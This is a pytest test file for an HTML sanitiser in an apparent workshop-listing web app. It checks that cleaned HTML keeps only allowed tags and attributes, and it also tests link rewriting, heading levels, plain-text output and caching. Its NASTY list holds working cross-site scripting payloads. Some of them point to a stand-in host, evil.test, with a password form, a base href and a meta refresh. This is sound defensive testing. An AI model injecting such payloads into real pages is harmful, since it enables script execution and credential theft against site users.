import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from workshops.pages.html import TAGS, plain_text, safe_html

NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>in</iframe>",
    "<object data=x></object><embed src=x>",
    "<p onclick=alert(1) style='position:fixed' class=button id=post-form>p",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java\tscript&#58;alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x' target=_self rel=opener ping=//evil.test>a</a>",
    "<form action=//evil.test><input name=password><button form=post-form>b</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<style>@import url(//evil.test)</style><link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test>",
    "<div hx-get=//evil.test hx-trigger=load data-hx-post=/e/demo/w/1/join/>d</div>",
    "<h1 lang=de hx-get=/>h</h1><!--<script>--><x-y onclick=alert(1)>z</x-y>",
    "<textarea></p><script>alert(1)</script></textarea><title><script>x</script></title>",
    "<table><td colspan=2 onmouseover=x background=//evil.test>t",
    "&lt;script&gt;alert(1)&lt;/script&gt;<<b>script>alert(1)</b>",
]
HARMLESS = {
    ("href", "https://example.org/?a=1&b=2"),
    ("target", "_blank"),
    ("rel", "noopener noreferrer nofollow"),
    ("lang", "de"),
    ("colspan", "2"),
}


class Page(HTMLParser):
    """The tags and attributes that a browser would find."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(attrs)


def seconds(call):
    """How long this call takes."""
    start = time.perf_counter()
    call()
    return time.perf_counter() - start


@pytest.mark.parametrize("html", NASTY)
def test_nothing_executable_survives(html):
    page = Page(safe_html(f'{html}<a href="https://example.org/?a=1&amp;b=2">kept</a>'))

    assert page.tags <= TAGS
    assert page.attributes <= HARMLESS
    assert "alert" not in str(page.attributes)


@given(st.lists(st.tuples(st.sampled_from(NASTY), st.integers(0, 60), st.integers(0, 60))))
def test_nothing_executable_survives_in_scraps_put_together(scraps):
    html = "".join(text[start : start + length] for text, start, length in scraps)

    page = Page(safe_html(html))

    assert page.tags <= TAGS
    assert page.attributes <= HARMLESS


def test_text_lists_tables_and_emphasis_stay_as_they_are():
    html = (
        "<p>Bring <strong>wood</strong> &amp; <em>glue</em>.<br>Then:</p><ul><li>saw</li></ul>"
        '<table><tbody><tr><th scope="row">1</th><td>2</td></tr></tbody></table>'
    )

    assert safe_html(html) == html


def test_a_link_opens_in_a_tab_that_has_no_opener_and_no_referrer():
    html = safe_html('<a href="https://example.org/" target="_self" rel="opener">the kit</a>')

    assert html == (
        '<a href="https://example.org/" target="_blank" rel="noopener noreferrer nofollow">'
        "the kit</a>"
    )


@pytest.mark.parametrize(
    "href",
    ["/e/demo/mine/", "//example.org/", "join/", "#post-form", "tel:110", "ftp://example.org/"],
)
def test_a_link_with_another_scheme_or_none_loses_its_address(href):
    html = safe_html(f'<a href="{href}">text</a> and <a href="mailto:ada@example.org">mail</a>')

    assert dict(Page(html).attributes)["href"] == "mailto:ada@example.org"
    assert html.startswith("<a target=")
    assert href not in html


@pytest.mark.parametrize("level", ["h1", "h2", "H1", "h3"])
def test_headings_start_below_the_pages_own_and_stay_whole(level):
    html = safe_html(f'<{level} lang="de" class="x">Holz</{level}><p>h1 &lt;h1&gt;</p>')

    assert html == '<h3 lang="de">Holz</h3><p>h1 &lt;h1&gt;</p>'


def test_plain_text_keeps_the_words_line_by_line():
    html = "<P>Saw &amp; glue<BR>&lt;bring&gt; both</P><ul><li>one</li><li>two</li></ul>"

    assert plain_text(html) == "Saw & glue\n<bring> both\none\ntwo"


def test_plain_text_has_no_scripts_and_no_more_characters_than_allowed():
    html = "<style>p{}</style>abc<script>alert(1)</script>def" + "<b>g</b>" * 9

    assert plain_text(html, max_chars=7) == "abcdefg"


@pytest.mark.parametrize("clean", [safe_html, plain_text])
def test_the_same_html_is_cleaned_once(monkeypatch, clean):
    runs = []
    real = nh3.clean
    monkeypatch.setattr(
        nh3, "clean", lambda html, **options: runs.append(1) or real(html, **options)
    )

    first, again = clean("<p>Bring <b>wood</b>.</p>"), clean("<p>Bring <b>wood</b>.</p>")
    other = clean("<p>Bring <b>glue</b>.</p>")

    assert first == again
    assert "glue" in other
    assert len(runs) == 2


def test_html_and_its_plain_text_are_remembered_apart():
    html = "<p>Bring <b>wood</b> &lt;today&gt;.</p>"

    assert (safe_html(html), plain_text(html)) == (html, "Bring wood <today>.")
    assert (plain_text(html, max_chars=5), plain_text(html)) == ("Bring", "Bring wood <today>.")


@pytest.mark.parametrize("html", ["<div>" * 13_000, "<ul><li>" * 8_000])
def test_a_second_view_of_html_that_is_slow_to_clean_is_fast(html):
    first, again = seconds(lambda: safe_html(html)), seconds(lambda: safe_html(html))

    assert again < first / 20
